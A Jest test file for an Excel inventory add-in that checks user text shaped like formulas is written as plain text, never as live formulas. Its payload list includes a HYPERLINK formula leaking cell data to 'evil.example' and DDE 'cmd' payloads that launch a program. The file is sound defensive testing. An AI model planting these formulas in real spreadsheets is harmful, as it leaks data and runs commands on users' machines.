/**
 * Formula injection: user text that Excel would read as a formula (=, +, -, @, also after a tab or CR) goes into
 * every text column of every table; reports are generated on each port and a check-out records a borrower named
 * like a formula. No generated cell may be a formula built from user text:
 * - memory: every generated string that starts like a formula carries user text (labels such as "=1+1Parts
 *   (2 items)" are fine as text; the add-in itself never composes a formula) — the ports below must write them as
 *   text;
 * - Office.js fake (which, like Excel, turns such strings into formulas unless the cell is formatted as text):
 *   no cell anywhere holds a formula, no rule formula carries user text;
 * - .xlsx output read back with ExcelJS: no cell of type Formula, no `formula`/`sharedFormula`.
 */
import { mkdtempSync, rmSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import ExcelJS from "exceljs";
import { openBook } from "../../src/port/book";
import type { CellValue, WorkbookPort } from "../../src/port/types";
import { generateReports } from "../../src/reports/generate";
import { TABLES, type TableName } from "../../src/engine/schema/tables";
import { runAssetAction } from "../../src/taskpane/logic/assetActions";
import { XlsxWorkbook } from "../../src/xlsx/xlsxWorkbook";
import { baseTables, PERIOD, type RawTables } from "../fixtures/hostile/base";
import { ExcelFake } from "../fakes/excelFake";
import { OfficeWorkbook } from "../../src/excel/officeWorkbook";
import { generatedCells, memoryBook } from "./reportHarness";

export const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=cmd|' /C calc'!A0",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];
const FORMULA_START = /^[\t\r\n ]*[=+\-@]/;

/** Base tables with every text cell (keys included, consistently) prefixed by a payload. */
function injected(): RawTables {
  const t = baseTables();
  const map = new Map<string, string>();
  const spoil = (v: string) => {
    if (!map.has(v)) map.set(v, `${PAYLOADS[map.size % PAYLOADS.length]}${v}`);
    return map.get(v) as string;
  };
  for (const name of Object.keys(t) as TableName[]) {
    const text = new Set(TABLES[name].columns.filter((c) => c.type === "text").map((c) => c.name));
    const cols = t[name].header.map((h) => text.has(h));
    t[name].rows = t[name].rows.map((r) => r.map((v, i) => (cols[i] && typeof v === "string" ? spoil(v) : v)));
  }
  return t;
}

const userTexts = (t: RawTables): Set<string> =>
  new Set(Object.values(t).flatMap((x) => (x?.rows ?? []).flat().filter((v): v is string => typeof v === "string")));

async function createTables(port: WorkbookPort, t: RawTables): Promise<void> {
  for (const [name, x] of Object.entries(t)) {
    if (x) await port.createTable({ name, sheet: name, headers: x.header, rows: x.rows as CellValue[][] });
  }
}

const BORROWER = '=HYPERLINK("http://evil.example","Ana")';

describe("no generated cell is a formula built from user text", () => {
  const tables = injected();
  const texts = userTexts(tables);

  it("the fixture really carries formula-like text in every table", () => {
    for (const [name, x] of Object.entries(tables))
      expect([name, x?.rows.flat().some((v) => typeof v === "string" && FORMULA_START.test(v))]).toEqual([name, true]);
  });

  it("in memory: formula-like strings on generated sheets come from user text, never from the add-in", async () => {
    const wb = memoryBook(tables);
    await generateReports(wb, PERIOD);
    const trimmed = [...texts].map((t) => t.trim());
    const cells = await generatedCells(wb);
    const formulaLike = cells.filter(({ v }) => typeof v === "string" && FORMULA_START.test(v));
    expect(formulaLike.length).toBeGreaterThan(0);
    const composed = formulaLike.filter(({ v }) => !trimmed.some((t) => String(v).includes(t)));
    expect(composed.map(({ sheet, r, c, v }) => `${sheet}!R${r + 1}C${c + 1}: ${String(v).slice(0, 60)}`)).toEqual([]);
  });

  it("through Office.js: no cell of any sheet becomes a formula, rules carry no user text", async () => {
    const fake = new ExcelFake();
    const port = new OfficeWorkbook(fake.run, { isSetSupported: () => true });
    await createTables(port, tables);
    await generateReports(port, PERIOD);
    const out = await runAssetAction(await openBook(port), {
      kind: "checkOut",
      assetId: String(tables.Assets?.rows[2][0]),
      to: BORROWER,
      date: 45800,
      due: null,
      location: "@HQ",
      notes: "+note",
    });
    expect(out.ok).toBe(true);
    const formulas: string[] = [];
    for (const sheet of fake.state.sheets) {
      for (const [addr, c] of sheet.cells) {
        if (c.formula !== undefined || c.value === "#NAME?")
          formulas.push(`${sheet.name}!${addr}: ${c.formula ?? ""} (${String(c.value)})`);
      }
      for (const rule of [...sheet.conditionalFormats, ...sheet.validations]) {
        const f = rule.formula ?? "";
        if ([...texts].some((t) => t.length > 3 && f.includes(t))) formulas.push(`${sheet.name} rule: ${f}`);
      }
    }
    expect(formulas).toEqual([]);
    // The borrower landed as the text typed, on the Checkouts sheet.
    const loans = fake.state.findSheet("Checkouts");
    expect([...(loans?.cells.values() ?? [])].some((c) => c.value === BORROWER)).toBe(true);
  });

  it("in the .xlsx file: no cell is a formula", async () => {
    const dir = mkdtempSync(join(tmpdir(), "stockbook-injection-"));
    try {
      const port = XlsxWorkbook.create();
      await createTables(port, tables);
      await generateReports(port, PERIOD);
      await port.saveAs(join(dir, "out.xlsx"));
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(join(dir, "out.xlsx"));
      const formulas: string[] = [];
      let cells = 0;
      wb.eachSheet((ws) =>
        ws.eachRow({ includeEmpty: false }, (row) =>
          row.eachCell({ includeEmpty: false }, (cell) => {
            cells++;
            const v = cell.value as { formula?: string; sharedFormula?: string } | null;
            if (
              cell.type === ExcelJS.ValueType.Formula ||
              (v && typeof v === "object" && (v.formula || v.sharedFormula))
            )
              formulas.push(`${ws.name}!${cell.address}: ${String(v?.formula ?? v?.sharedFormula)}`);
          })
        )
      );
      expect(cells).toBeGreaterThan(100);
      expect(formulas).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
